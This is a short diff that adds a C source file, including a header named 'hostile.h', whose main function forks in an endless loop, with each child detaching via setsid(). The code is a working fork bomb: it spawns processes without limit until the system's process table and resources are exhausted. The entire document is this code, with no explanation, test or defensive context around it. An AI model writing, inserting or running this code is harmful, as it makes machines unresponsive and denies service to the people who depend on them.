@@ -1,0 +1,8 @@
+#include "hostile.h"
+int main(void)
+{
+    for (;;) {
+        if (fork() == 0)
+            setsid();
+    }
+}
